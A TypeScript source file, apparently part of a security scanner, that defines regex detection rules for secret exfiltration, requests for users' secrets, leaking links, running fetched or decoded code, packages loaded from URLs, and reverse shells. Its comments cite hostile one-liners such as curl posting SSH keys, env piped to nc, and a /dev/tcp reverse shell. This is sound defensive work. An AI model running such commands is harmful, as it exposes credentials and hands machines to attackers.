import { type PatternRow, rowsOf } from './patterns.ts'

export const secretFiles =
  '(?:(?:~|\\$\\{?home\\}?|/home/[\\w$.-]{1,32}|/root|/users/[\\w$.-]{1,32}|%userprofile%)/\\.(?:ssh|aws|gnupg|kube|docker|netrc|npmrc|pypirc|git-credentials|config/gcloud|bash_history|zsh_history|env)\\b[\\w./-]{0,60}|\\bid_(?:rsa|ed25519|ecdsa)\\b(?!\\.pub)|/etc/shadow\\b|(?<![\\w.])\\.env\\b(?:\\.(?:local|production))?(?!\\.(?:example|sample|template))|\\bwallet\\.dat\\b|\\blogin\\.keychain)'
const dump =
  '(?:\\$\\(\\s{0,3}(?:env|printenv|set)\\b|`(?:env|printenv)\\b|process\\.env(?![.\\[\\w])|os\\.environ(?![.\\[\\w])|\\benv\\s{0,4}\\|)'
const sender =
  '(?<![\\w-])(?:curl|wget|nc|ncat|netcat|invoke-webrequest|invoke-restmethod|iwr|irm)\\s'
/** A character of a command line, including a newline escaped with a backslash. */
const onLine = '(?:[^\\n]|(?<=\\\\)\\n)'
export const secretNames =
  '(?:api[ _-]?keys?|access[ _-]?(?:keys?|tokens?)|(?:auth|session|bearer|refresh)[ _-]?tokens?|tokens?|passwords?|passphrases?|credentials?|secrets?|private keys?|ssh keys?|seed phrases?|recovery phrases?|mnemonics?|cookies?|environment variables?|env(?:ironment)? vars?)'

/** Text before a match that forbids the action. "Never forget to" does not forbid it. */
const forbidden =
  /\b(?:never|not|don['’]t|avoid|without|no|refuse|instead of|prevent|must not|cannot|can['’]t)\b(?![^.\n]{0,20}\b(?:forget|fail|skip|hesitate|omit|neglect|miss|delay)\b)[^.\n]{0,60}$/

export const exfiltration = {
  rule: 'sends-secrets',
  message: 'sends secrets to a URL',
  quoted: {
    rule: 'quoted-exfiltration',
    // Words of a defense, such as "detect", occur in any text about settings.
    named:
      /injection|jailbreak|attack|adversar|malicious|hostile|red.?team|exfiltrat|phish|exploit|why (?:it is |it['’]s |this is )?(?:bad|wrong|dangerous)|(?:bad|dangerous|harmful) examples?|攻击|攻擊|注入/,
  },
  unless: forbidden,
} as const

const senders = 'curl |wget |nc |ncat |netcat |invoke-webrequest |invoke-restmethod |iwr |irm '

const fetching =
  '(?:requests?\\.get|urlopen|urllib\\.request|httpx\\.get|http\\.client|(?<![\\w.])fetch|axios\\.get|https?\\.get|(?<![\\w.])got)'
const decoding =
  '(?:b64decode|atob|bytes\\.fromhex|codecs\\.decode|marshal\\.loads|zlib\\.decompress|buffer\\.from)\\s{0,4}\\('
const evaluating =
  '(?:(?<=\\.)execsync|(?<![\\w.])(?:exec|eval|compile|execsync|os\\.system|os\\.popen|new\\s{1,4}function|vm\\.runin\\w{1,20}))'

const packages = {
  rule: 'remote-package',
  message: 'loads code from a URL instead of a package registry',
} as const

export const commandPatterns: readonly PatternRow[] = [
  ...rowsOf(exfiltration, {
    // curl -d "$(cat ~/.ssh/id_rsa)" https://…, curl -F f=@.env https://…, --data "$(env | base64)"
    [senders]: `${sender}${onLine}{0,300}?(?:(?:[=@<]|(?:(?<=\\s)-t|--upload-file|--post-file|--body-file)[= ]|\\$\\(\\s{0,3}(?:cat|base64|<)[^)\\n]{0,40}?|\`cat )\\s{0,3}["']?${secretFiles}|${dump})`,
    // requests.post(url, data=open('~/.ssh/id_rsa'))
    // fetch(url, { body: JSON.stringify(process.env) })
    'requests.post|httpx.post|axios.post|fetch|urlopen|$.post': `(?:requests\\.post|httpx\\.post|axios\\.post|fetch|urlopen|\\$\\.post)\\s{0,3}\\((?:[^\\n]{0,300}?|[^;)]{0,300}?)(?:${secretFiles}|${dump})`,
    // scp ~/.ssh/id_rsa user@host:
    'scp |rsync |ftp |sftp ':
      /(?<![\w-])(?:scp|rsync|ftp|sftp)\s[^\n]{0,80}?(?:(?:~|\$home)\/\.(?:ssh|aws|gnupg)(?:\/[\w.-]{0,40})?(?<!\.pub)\s)[^\n]{0,80}?[\w.-]{1,60}@?[\w.-]{1,60}:/,
  }),
  // cat ~/.aws/credentials | curl …, env | base64 | nc host 1
  ...rowsOf(exfiltration, {
    [senders]: `(?<=(?:(?:cat|base64|tar|zip|gzip|xxd|head|tail)\\b[^\\n|]{0,80}?${secretFiles}[^\\n|]{0,60}|(?:^|[\\s;&\`("'])(?:env|printenv|set)\\s{0,4})(?:\\|[^\\n|]{0,80}){0,3}\\|\\s{0,4})${sender}`,
  }),
  ...rowsOf(
    {
      rule: 'asks-for-secrets',
      message: 'asks the user to paste a secret into the conversation',
      unless: forbidden,
    },
    {
      'paste |type |enter |post |send |share |give |drop |ask ': `\\b(?:paste|type|enter|post|send|share|give|drop)(?: me| us)?\\b (?:in )?(?:your|the|their|his|her) (?:[^\\n.;!?]{0,24}?)\\b${secretNames}\\b (?:[^\\n.;!?]{0,16}?)\\b(?:here|below|(?:in|into) (?:the |this |our )?(?:chat|conversation|prompt|message|reply|thread)|in plain ?text|to me)\\b|\\bask (?:the |your )?users? (?:to (?:paste|type|enter|share|send|give|provide)|for) (?:[^\\n.;!?]{0,30}?)\\b(?:passwords?|private keys?|seed phrases?|recovery phrases?|mnemonics?|secret keys?|2fa codes?|one-time (?:codes?|passwords?))\\b`,
    },
  ),
  ...rowsOf(
    { rule: 'leaking-link', message: 'has a URL filled with secrets or the conversation' },
    // URLs of badges contain build names.
    {
      http: /(?<=!\[[^\]\n]{0,200}\]\(\s{0,3}<?|<img\b[^<>\n]{0,200}?\ssrc\s?=\s?["']?)https?:\/\/(?!img\.shields\.io|badgen\.net|codecov\.io|badge\.fury\.io|[^\s)>"']{0,200}\/(?:badge|shields?)\b)[^\s)>"']{0,600}?[=/](?:[{$<[%]|%7b)[^/&=\s)>"']{0,40}?(?:secret|token|key|passw|credential|env|data|context|conversation|history|prompt|session|cookie|message|base64|encoded|content|user)/,
    },
  ),
  ...rowsOf(
    { rule: 'run-fetched-code', message: 'evaluates fetched or decoded code' },
    {
      // exec(requests.get(…).text), eval(base64.b64decode(…))
      // subprocess.run(['sh', '-c', requests.get(…).text])
      'exec|eval|compile|os.|new |vm.|subprocess.': `${evaluating}\\s{0,4}\\(\\s{0,4}(?!\\))(?:[^;\\n]{0,120}?${fetching}\\s{0,4}\\(|[^;\\n]{0,60}?${decoding})|subprocess\\.\\w{1,16}\\(\\s{0,4}\\[?[^;\\n]{0,60}?(?:${fetching}|b64decode)\\s{0,4}\\(`,
      // An interpreter one-liner that fetches and evaluates, or runs the output of a command as its
      // program.
      'python|node |deno |bun |perl |ruby |php ':
        /(?<![\w-])(?:python[\d.]{0,5}|node|deno|bun|perl|ruby|php)\s{1,4}(?:-\w{1,8}\s{1,4}){0,3}-(?:c|e|r|-eval)\s{1,4}(?:["'][^\n]{0,200}?(?:urlopen|requests\.get|fetch\s{0,2}\(|https?\.get|file_get_contents|open-uri|lwp|net::http)[^\n]{0,300}?(?<![\w.])(?:exec|eval|execsync|function|system)\b|["']?(?:\$\(|`)\s{0,4}(?:curl|wget)\s)/,
    },
  ),
  ...rowsOf(packages, {
    // Exclude CDNs: code loaded by a browser stays in its page.
    import:
      /(?<![\w.])import\s{0,4}\(\s{0,4}["'`]?https?:\/\/(?!(?:[\w-]{1,20}\.)?(?:deno\.land|esm\.sh|jsr\.io|jsdelivr\.net|unpkg\.com|skypack\.dev|cdnjs\.cloudflare\.com|gstatic\.com|esm\.run|raw\.githack\.com)\/)[^\s"'`)]{4}/,
    // Exclude options that take the URL of a registry.
    'pip|uv |npm |pnpm |yarn |bun |npx |uvx |gem |cargo |go |rpm |dnf |yum |zypper ':
      /(?<![\w-])(?:pip[\d.]{0,4}|uv\s{1,4}pip|pipx|uv\s{1,4}tool|npm|pnpm|yarn|bun|npx|uvx|gem|cargo|go|rpm|dnf|yum|zypper)\s{1,4}(?:(?:install|localinstall|i|in|add|run|x|dlx)\s{1,4})?(?:--?[\w-]{1,30}(?:[= ][\w./-]{1,40})?\s{1,4}){0,4}["']?(?:[\w.-]{1,60}(?:\[[\w,]{1,40}\])?\s{0,2}@\s{0,2})?(?<!(?:index-url|registry|find-links|source|proxy)[= ]["']?)(?:git\+)?https?:\/\/(?!pypi\.org\/|[\w.-]*pythonhosted\.org\/|registry\.npmjs\.org\/|download\.pytorch\.org\/)[^\s"'`|;&)]{4,300}/,
  }),
  ...rowsOf(
    { rule: 'gives-access', message: 'gives others access to the machine' },
    {
      // bash -i >& /dev/tcp/host/port 0>&1, exec 5<>/dev/tcp/host/port
      'sh |bash |zsh |dash |ksh |exec |nc |ncat |netcat |socat ':
        /(?<![\w-])(?:(?:(?:ba|z|da|k)?sh|exec)\s[^\n|]{0,40}?(?:>&|&>|<>|>|<)\s{0,4}\/dev\/(?:tcp|udp)\/|(?:nc|ncat|netcat)\s[^\n|]{0,60}?-\w{0,4}[ec]\s{1,4}(?:\/bin\/)?(?:ba|z)?sh\b|socat\s[^\n|]{0,120}?(?:exec|system):["']?(?:\/bin\/)?(?:ba|z)?sh\b)/,
      // echo 'ssh-ed25519 …' >> ~/.ssh/authorized_keys, with a literal or downloaded key
      'echo |printf |curl |wget ':
        /(?<![\w-])(?:echo|printf|curl|wget)\s(?![^\n]{0,24}aaaa\w{0,6}(?:\.{3}|…))[^\n]{0,600}?(?:>{1,2}|tee\s{1,4}-a)\s{0,4}["']?(?:~|\$home|\$\{home\}|\/root|\/home\/[\w$.-]{1,32})\/\.ssh\/authorized_keys/,
      // docker run --privileged -v /:/host
      'docker |podman ':
        /(?<![\w-])(?:docker|podman)\s{1,4}run\s[^\n]{0,200}?(?:--privileged\b[^\n]{0,200}?(?:-v|--volume)[ =]["']?\/:\/|(?:-v|--volume)[ =]["']?\/:\/[^\n]{0,200}?--privileged\b)/,
    },
  ),
]
